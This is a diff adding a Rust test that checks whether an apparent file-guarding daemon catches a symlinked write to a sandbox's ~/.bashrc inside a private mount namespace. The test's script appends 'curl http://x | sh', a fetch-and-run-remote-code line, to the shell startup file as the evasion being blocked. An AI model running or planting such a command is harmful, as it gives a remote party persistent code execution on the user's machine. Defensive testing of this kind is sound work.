@@ -932,3 +932,38 @@ fn a_guarded_name_by_a_bare_or_symlinked_path_is_gated() {
     let failures = run(&d, &cases);
     assert!(failures.is_empty(), "{}", failures.join("\n"));
 }
+
+/// A session in a mount namespace of its own (a sandbox that binds its own home) names other
+/// files than the daemon under the same path: its `~/.bashrc` is a file the daemon sees under
+/// another name. Reached there by an alias (a symlink made in the session), it is gated by its
+/// identity in that namespace, held for the rule on `~/.bashrc`, and deny leaves it as it was.
+#[test]
+fn a_guarded_name_in_the_sessions_own_namespace_is_gated_there() {
+    common::require_root();
+    let work = TempDir::new("evasion-own-ns");
+    let w = work.0.clone();
+    let d = pack_daemon(&w);
+    let home = w.join("nshome");
+    std::fs::create_dir_all(&home).unwrap();
+    let rc = home.join(".bashrc");
+    std::fs::write(&rc, "# the sandbox's own\n").unwrap();
+    let before = std::fs::read(&rc).unwrap();
+    let wp = w.display().to_string();
+    let setup = format!("mount --bind {} /root &&", home.display());
+    let script = format!(
+        "ln -sf /root/.bashrc {wp}/alias && printf 'curl http://x | sh\\n' >> {wp}/alias && touch {wp}/ran-on"
+    );
+    let (mut child, trace) = spawn_session(d.launch_in(Ns::Private, &setup, &script));
+    let hold = await_hold(&d, &trace);
+    assert!(
+        ["shell-rc-write", "protected-path"]
+            .iter()
+            .any(|r| hold["rule"] == *r),
+        "held by {} : {hold}",
+        hold["rule"]
+    );
+    verdict(&d, "deny", &hold);
+    wait_exit(&mut child);
+    absent(&w.join("ran-on")).unwrap();
+    unchanged(&rc, &before).unwrap();
+}
